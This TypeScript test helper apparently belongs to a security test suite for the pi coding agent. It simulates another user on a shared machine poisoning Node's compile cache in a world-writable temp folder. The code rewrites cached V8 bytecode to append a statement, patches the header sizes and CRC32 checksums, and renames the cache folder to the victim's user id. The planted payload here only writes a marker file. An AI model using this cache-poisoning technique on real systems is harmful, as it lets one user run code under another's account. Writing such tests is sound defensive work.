import { chmod, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { asOtherUser } from "./other-user.ts";

/** The file that planted code leaves in the working folder of whoever runs it. */
export const plantedMark = "planted-code-ran";

const pi = join(import.meta.dirname, "../../node_modules/@earendil-works/pi-coding-agent/dist/bundle/cli.js");

/**
 * Runs as another user: lets the real pi fill a cache of compiled code, adds a statement to what is in it, in a way that Node
 * accepts, and names its folder as a process of the victim looks for it.
 */
const planter = `
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { crc32 } from "node:zlib";

const [shared, cli, mark, victim] = process.argv.slice(1);
process.umask(0o022);
const own = join(shared, "own");
mkdirSync(own);
const env = { TMPDIR: shared, HOME: own, PI_CODING_AGENT_DIR: own, PI_OFFLINE: "1" };
execFileSync(process.execPath, [cli, "--mode", "rpc", "--no-session"], { env, cwd: own, input: "" });

const payload = "\\n;try{process.getBuiltinModule('fs').appendFileSync(" + JSON.stringify(mark) + ",'x')}catch{}\\n";
const compile = "const { SourceTextModule } = require('vm'); process.stdout.write(new SourceTextModule(require('fs').readFileSync(0, 'utf8')).createCachedData())";
const bundle = dirname(cli);
const sources = readdirSync(bundle, { recursive: true }).filter((name) => name.endsWith(".js")).map((name) => readFileSync(join(bundle, name)));
const byHash = new Map(sources.map((source) => [crc32(source), source]));
const [magic, codeSize, dataSize, codeHash, dataHash, headerSize] = [0, 4, 8, 12, 16, 20];

const compiled = join(shared, "node-compile-cache");
let planted = 0;
for (const version of readdirSync(compiled)) {
  for (const name of readdirSync(join(compiled, version))) {
    const file = join(compiled, version, name);
    const kept = readFileSync(file);
    const source = byHash.get(kept.readUInt32LE(codeHash));
    if (source?.length !== kept.readUInt32LE(codeSize)) continue;
    const data = execFileSync(process.execPath, ["--experimental-vm-modules", "--no-warnings", "-e", compile], { input: source + payload, env: {}, maxBuffer: 2 ** 28 });
    const header = Buffer.from(kept.subarray(magic, headerSize));
    // V8 compares the length of the source.
    kept.copy(data, 8, headerSize + 8, headerSize + 12);
    header.writeUInt32LE(data.length, dataSize);
    header.writeUInt32LE(crc32(data), dataHash);
    writeFileSync(file, Buffer.concat([header, data]), { mode: 0o644 });
    planted += 1;
  }
  renameSync(join(compiled, version), join(compiled, version.replace(/-\\d+$/, "-" + victim)));
}
console.log(planted);
`;

export interface SharedFolder extends AsyncDisposable {
  path: string;
  /** How many files of compiled code another user left in it. */
  planted: number;
}

/** Stands for `/tmp`: everybody may write there, and another user of the machine has planted compiled code for pi. */
export async function sharedFolderWithPlants(): Promise<SharedFolder> {
  const path = await mkdtemp(join(process.env["SIGNALBOX_KEPT_FOLDER"] ?? tmpdir(), "signalbox-shared-"));
  await chmod(path, 0o1777);
  const planted = await asOtherUser(planter, path, pi, plantedMark, String(process.getuid?.()));
  return {
    path,
    planted: Number(planted),
    [Symbol.asyncDispose]: () => rm(path, { recursive: true, force: true, maxRetries: 3 }),
  };
}
